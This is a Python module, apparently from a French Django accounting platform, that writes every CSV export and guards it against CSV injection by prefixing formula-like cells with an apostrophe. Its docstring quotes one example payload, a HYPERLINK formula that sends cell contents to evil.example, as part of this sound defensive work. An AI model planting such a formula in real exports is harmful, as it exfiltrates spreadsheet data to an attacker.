"""The one CSV writer of the platform: every spreadsheet export goes through it.

A cell a spreadsheet would evaluate (text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return) is written with a leading apostrophe, so that a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")`` stays text when the file is opened
(CSV injection, OWASP). Only text is neutralised: amounts are written by the writer itself
(decimal comma, no grouping), so a negative amount stays a number.

The FEC is not a spreadsheet export: its format is fixed by law (LPF art. A47 A-1) and its
values must be those of the ledger, so it is written by `accounting.fec`, not here.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import IO, Any

from django.http import FileResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """Text a spreadsheet would run as a formula, quoted with an apostrophe."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def cell(value: object, *, decimal_comma: bool = True) -> str:
    """One value as the text of a cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, Decimal):
        exponent = value.as_tuple().exponent
        text = f"{value:.2f}" if isinstance(exponent, int) and exponent >= -2 else str(value)
        return text.replace(".", ",") if decimal_comma else text
    if isinstance(value, int):
        return str(value)
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    return neutralise(str(value))


class CsvWriter:
    """`csv.writer` whose cells go through `cell`: French spreadsheets by default (semicolon,
    decimal comma); `delimiter=",", decimal_comma=False` for machine-read output."""

    def __init__(
        self,
        stream: IO[str] | Any,
        *,
        delimiter: str = ";",
        decimal_comma: bool = True,
        lineterminator: str = "\r\n",
    ) -> None:
        self._writer = csv.writer(stream, delimiter=delimiter, lineterminator=lineterminator)
        self._decimal_comma = decimal_comma

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell(value, decimal_comma=self._decimal_comma) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def spooled_file() -> Any:
    """A file for a download: in memory up to 4 MB, then on disk. A download is written
    completely inside the request (its cooperative context and transaction), then sent: a
    generator read after the view returns would run outside row-level security."""
    return tempfile.SpooledTemporaryFile(max_size=4 * 1024 * 1024, mode="w+b")


def csv_response(
    filename: str, header: Sequence[object], rows: Iterable[Iterable[object]]
) -> FileResponse:
    """A CSV download: semicolon, decimal comma, UTF-8 with a BOM (Excel then reads the
    accents), every text cell neutralised; never kept in a shared cache."""
    spool = spooled_file()
    text = io.TextIOWrapper(spool, encoding="utf-8", newline="")
    text.write("\ufeff")
    writer = CsvWriter(text)
    writer.writerow(header)
    writer.writerows(rows)
    text.flush()
    text.detach()
    spool.seek(0)
    response = FileResponse(
        spool, as_attachment=True, filename=filename, content_type="text/csv; charset=utf-8"
    )
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "private, no-store"
    return response


def csv_dict_rows(
    text: str, *, delimiter: str | None = None, delimiters: str = ";,"
) -> tuple[list[str], Iterator[dict[str, Any]]]:
    """Reading, for imports (bank statements, customers): the header and the rows as
    dictionaries; without `delimiter`, sniffed among `delimiters`. Here so that this module
    stays the only one importing `csv` (every writer neutralises its cells)."""
    if delimiter is None:
        sample = text[:2000]
        dialect: Any = csv.Sniffer().sniff(sample, delimiters=delimiters) if sample else csv.excel
        reader = csv.DictReader(io.StringIO(text), dialect=dialect)
    else:
        reader = csv.DictReader(io.StringIO(text), delimiter=delimiter)
    return list(reader.fieldnames or []), iter(reader)
